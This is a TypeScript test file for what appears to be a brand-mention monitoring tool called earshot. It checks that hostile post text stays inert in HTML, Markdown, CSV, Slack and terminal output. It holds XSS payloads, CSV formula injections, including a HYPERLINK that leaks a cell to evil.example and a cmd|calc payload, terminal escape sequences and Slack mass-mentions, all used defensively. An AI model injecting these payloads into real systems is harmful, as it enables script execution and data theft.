import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell } from '../../src/report/csv.js';
import { escapeHtml } from '../../src/report/report-html.js';
import { escapeMd } from '../../src/report/report-text.js';
import { escapeSlack } from '../../src/report/slack.js';
import { makeTempDir, runCli, TEST_NOW } from '../support/cli.js';
import { hasChromium, visitFile, CHROMIUM } from './chromium.js';
import { recordFigures } from './figures.js';

/**
 * Text written by anyone on the internet must stay inert everywhere earshot sends it:
 * terminal, Markdown, HTML (rendered in headless Chromium), CSV, JSONL and Slack.
 */
const tmp = makeTempDir('earshot-hostile-');
let hostileCases = 0;
let fuzzCases = 0;
afterAll(() => {
  tmp.cleanup();
  recordFigures('hostile', { hostileCases, fuzzCases }, hasChromium ? 'HTML checked in Chromium' : 'Chromium absent: HTML render skipped');
});

const PWN = "document.title='pwned'";
export const HOSTILE = [
  `<script>${PWN}</script>`,
  `"><img src=x onerror="${PWN}">`,
  `'><svg onload="${PWN}">`,
  `<a href="javascript:${PWN}">click</a>`,
  `javascript:${PWN}`,
  '<iframe src="https://evil.example/"></iframe>',
  '<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=https://evil.example/y.css>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|',
  '@SUM(1+1)*cmd|',
  '\t=1+1',
  '\r=1+1',
  'NUL\u0000byte, bell\u0007, \u001b[31mred\u001b[0m, \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  'RTL \u202egnp.exe\u202c override and \u2066isolate\u2069 and \u200fmark',
  '<!channel> <!here|here> <@U0123> @everyone <https://evil.example|click> &amp; *bold* `code`',
  '[click](javascript:alert(1)) ![x](https://evil.example/t.png) <b>bold</b> | table | # heading',
];
const URLS = [`javascript:${PWN}`, 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', `https://x.com/a/status/1"><script>${PWN}</script>`, 'https://x.com/ok/status/2'];

/** Two weeks of chatter, then 40 people on plastic in the tea bags, each post carrying a payload. */
function writeHostileFile(path: string): void {
  const now = TEST_NOW;
  const H = 3_600_000;
  const lines: string[] = [];
  const chatter = ['lovely cup of green tea this morning', 'the chai blend is great with milk', 'ordered the rooibos again, tasty',
    'earl grey with lemon is my favourite', 'new mug for my afternoon tea', 'peppermint tea helps after lunch'];
  for (let d = 0; d < 15; d++) {
    for (let i = 0; i < 12; i++) {
      lines.push(JSON.stringify({ id: `b${d}-${i}`, source: 'x', created_at: new Date(now - d * 24 * H - i * H - H).toISOString(),
        text: `${chatter[(d + i) % chatter.length]} ${d}`, author: `fan${(d * 7 + i) % 40}` }));
    }
  }
  const openers = ['Shocked to learn', 'Disgusted that', 'Angry because', 'Worried now,', 'Unbelievable:'];
  const tails = ['never buying again', 'this is awful', 'what a scandal', 'so disappointed', 'horrible news', 'terrible for health', 'gross'];
  for (let i = 0; i < 40; i++) {
    const payload = HOSTILE[i % HOSTILE.length]!;
    lines.push(JSON.stringify({ id: `w${i}`, source: i % 2 ? 'x' : 'reddit', created_at: new Date(now - (i + 1) * H).toISOString(),
      text: `${payload} ${openers[i % openers.length]} there is plastic in the tea bags <script>${PWN}</script>, ${tails[i % tails.length]}. Awful, terrible, disgusting, I hate it.`,
      author: i % 3 ? `angry${i}` : `=cmd${i}<script>${PWN}</script>`, url: URLS[i % URLS.length] }));
  }
  // a 100 KB text, a lone surrogate (as JSON escapes) and an RTL override in the author
  lines.push(JSON.stringify({ id: 'huge', source: 'x', created_at: new Date(now - 2 * H).toISOString(),
    text: `plastic in the tea bags ${'<script>x</script> '.repeat(5300)}`.slice(0, 100_000), author: '\u202eevil' }));
  lines.push(`{"id":"lone","source":"x","created_at":"${new Date(now - 3 * H).toISOString()}","text":"plastic in the tea bags \\ud800 lone \\udc00","author":"\\udfff"}`);
  const body = Buffer.from(`${lines.join('\n')}\n`);
  // invalid UTF-8 bytes inside a text, and a line that is not JSON at all
  const bad = Buffer.concat([Buffer.from(`{"id":"bytes","source":"x","created_at":"${new Date(now - 4 * H).toISOString()}","text":"plastic in the tea bags `),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('"}\n'), Buffer.from([0xff, 0x00, 0x7b, 0x0a])]);
  writeFileSync(path, Buffer.concat([body, bad]));
}

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/;

describe('hostile mention text stays inert (built binary)', () => {
  beforeAll(async () => {
    writeHostileFile(join(tmp.dir, 'hostile.jsonl'));
    writeFileSync(join(tmp.dir, 'earshot.config.json'), JSON.stringify({ brands: [{ name: 'Acme' }],
      alerts: [{ type: 'slack', name: 'team', url: 'https://hooks.slack.example/services/T0/B0/XYZ' }] }), { mode: 0o600 });
    const r = await runCli(['--db', 'h.db', 'import', 'hostile.jsonl', '--brand', 'Acme'], { cwd: tmp.dir });
    expect(r.code, r.stderr).toBe(0);
    // the two lines holding bytes that are not UTF-8 are rejected with their line numbers
    // (issue 15 #6: never stored corrupted); everything else is kept
    expect(r.stderr.match(/earshot: warning: line \d+: not valid UTF-8/g)).toHaveLength(2);
    expect(r.stderr).toMatch(/\d+ new, 0 updated, 2 rejected/);
    hostileCases = HOSTILE.length + URLS.length + 4;
  }, 60_000);

  it('stores the text as given, made well-formed (lone surrogates in a text become U+FFFD)', async () => {
    const r = await runCli(['--db', 'h.db', 'export', '--format', 'jsonl', '--columns', 'id,text,author'], { cwd: tmp.dir });
    expect(r.code, r.stderr).toBe(0);
    const rows = r.stdout.trim().split('\n').map((line) => JSON.parse(line) as { id: string; text: string; author: string });
    const byId = new Map(rows.map((row) => [row.id, row]));
    expect(byId.get('w14')!.text).toContain('NUL\u0000byte');
    expect(byId.get('huge')!.text.length).toBe(100_000);
    expect(byId.get('lone')!.text).toBe('plastic in the tea bags \uFFFD lone \uFFFD');
    expect(byId.has('bytes')).toBe(false);
    for (const row of rows) expect(row.text.isWellFormed()).toBe(true);
  });

  it('the report forms an issue from the hostile posts, and table/markdown/json stay inert', async () => {
    const json = await runCli(['--db', 'h.db', 'report', '--format', 'json'], { cwd: tmp.dir });
    expect(json.code, json.stderr).toBe(0);
    const report = JSON.parse(json.stdout) as { issues: Array<{ samples: Array<{ text: string }> }> };
    expect(report.issues.length, 'the fixture must produce an issue').toBeGreaterThan(0);
    const table = await runCli(['--db', 'h.db', 'report', '--format', 'table'], { cwd: tmp.dir });
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).not.toMatch(CONTROL);
    const md = await runCli(['--db', 'h.db', 'report', '--format', 'markdown'], { cwd: tmp.dir });
    expect(md.code, md.stderr).toBe(0);
    expect(md.stdout).toContain('plastic');
    expect(md.stdout).not.toMatch(/<(script|img|svg|iframe|a |style|base|meta|b>)/i);
    expect(md.stdout).not.toMatch(/\]\((?!<https:\/\/x\.com\/ok\/)/); // only the one http(s) sample URL becomes a link
    expect(md.stdout).not.toMatch(CONTROL);
    // search prints JSON when piped (data, as given: the JSON reader gets the text whole);
    // its table, as a terminal shows it, must be inert
    const search = await runCli(['--db', 'h.db', 'search', 'plastic', '--limit', '50', '--format', 'table'], { cwd: tmp.dir });
    expect(search.code, search.stderr).toBe(0);
    expect(search.stdout).toContain('plastic');
    expect(search.stdout).not.toMatch(CONTROL);
    const piped = await runCli(['--db', 'h.db', 'search', 'plastic', '--limit', '50'], { cwd: tmp.dir });
    expect(piped.code, piped.stderr).toBe(0);
    const found = JSON.parse(piped.stdout) as Array<{ id: string; text: string }>;
    expect(found.length).toBeGreaterThan(0);
    for (const row of found) expect(row.text.isWellFormed()).toBe(true);
  });

  it('CSV export neutralises every formula cell', async () => {
    const r = await runCli(['--db', 'h.db', 'export', '--out', 'h.csv'], { cwd: tmp.dir });
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(readFileSync(join(tmp.dir, 'h.csv')), { columns: true }) as Array<Record<string, string>>;
    expect(rows.length).toBeGreaterThan(200);
    const numeric = new Set(['sentiment', 'likes', 'replies', 'reposts', 'score']);
    let neutralised = 0;
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (numeric.has(column)) continue;
        expect(cell, `${column} of ${row.id}`).not.toMatch(/^[=+\-@\t\r]/);
        if (cell.startsWith("'")) neutralised++;
      }
    }
    expect(neutralised).toBeGreaterThanOrEqual(12);
  });

  it('Slack payloads (alert --dry-run) escape mrkdwn control characters and link only http(s)', async () => {
    const r = await runCli(['--db', 'h.db', 'alert', '--dry-run'], { cwd: tmp.dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toContain('XYZ');
    const texts = [...r.stdout.matchAll(/"text":\s*"((?:[^"\\]|\\.)*)"/g)].map((m) => JSON.parse(`"${m[1]}"`) as string);
    expect(texts.some((t) => t.includes('plastic'))).toBe(true);
    for (const text of texts) {
      // the only `<…>` Slack may parse is a sample's own http(s) link; `>` opens a quote line
      expect(text.replace(/<https:\/\/[^|<>\s]+\|open>/g, '').replace(/^>/gm, '')).not.toMatch(/[<>]/);
      expect(text).not.toMatch(/@(channel|here|everyone)\b/);
    }
  });

  it('every escaper keeps arbitrary text inert (fast-check, 4 × 1000 cases)', () => {
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom(...HOSTILE, ...URLS).chain((h) => fc.string().map((t) => h + t)));
    const run = (check: (s: string) => void) => fc.assert(fc.property(text, (s) => { fuzzCases++; check(s); }), { numRuns: 1000 });
    run((s) => {
      const out = escapeSlack(s);
      expect(out).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)|@(channel|here|everyone)\b/i);
    });
    run((s) => expect(neutraliseCell(s)).not.toMatch(/^[=+\-@\t\r]/));
    run((s) => expect(escapeHtml(s)).not.toMatch(/[<>"'`\u0000-\u0008\u000b\u000c\u000e-\u001f\u202a-\u202e\u2066-\u2069]/));
    run((s) => expect(escapeMd(s)).not.toMatch(/(^|[^\\])[[\]()<>*_`]/));
  });

  it.skipIf(!hasChromium)('the HTML report renders in headless Chromium: no script runs, no request leaves', async () => {
    const r = await runCli(['--db', 'h.db', 'report', '--format', 'html', '--out', 'report.html'], { cwd: tmp.dir });
    expect(r.code, r.stderr).toBe(0);
    const html = readFileSync(join(tmp.dir, 'report.html'), 'utf8');
    // without its Content-Security-Policy too: escaping alone must keep the page inert
    writeFileSync(join(tmp.dir, 'no-csp.html'), html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
    expect(readFileSync(join(tmp.dir, 'no-csp.html'), 'utf8')).not.toContain('Content-Security-Policy');
    // a page that does run script, to show the probe would notice, even a request made after the load event
    writeFileSync(join(tmp.dir, 'control.html'), `<title>t</title><script>${PWN}</script><img src="https://evil.example/x.png" onerror="${PWN}">`
      + `<script>addEventListener('load', () => { new Image().src = 'https://evil.example/late.png'; });</script>`);
    const control = await visitFile(join(tmp.dir, 'control.html'));
    expect(control.scripts).toBeGreaterThan(0);
    expect(control.requests).toEqual(['https://evil.example/x.png', 'https://evil.example/late.png']);
    for (const file of ['report.html', 'no-csp.html']) {
      const page = await visitFile(join(tmp.dir, file));
      expect(page.requests, file).toEqual([]);
      expect(page.scripts, file).toBe(0);
      expect(page.console, file).toEqual([]);
      expect(page.title, file).toBe('Acme: emerging issues');
      expect(page.activeElements, file).toBe(0);
      expect(page.text, file).toContain('<script>');
      expect(page.text, file).toContain('plastic');
    }
  }, 60_000);
  if (!hasChromium) console.warn(`[reliability] ${CHROMIUM} not found: the HTML-in-Chromium check is SKIPPED (apt-get install -y chromium)`);
});
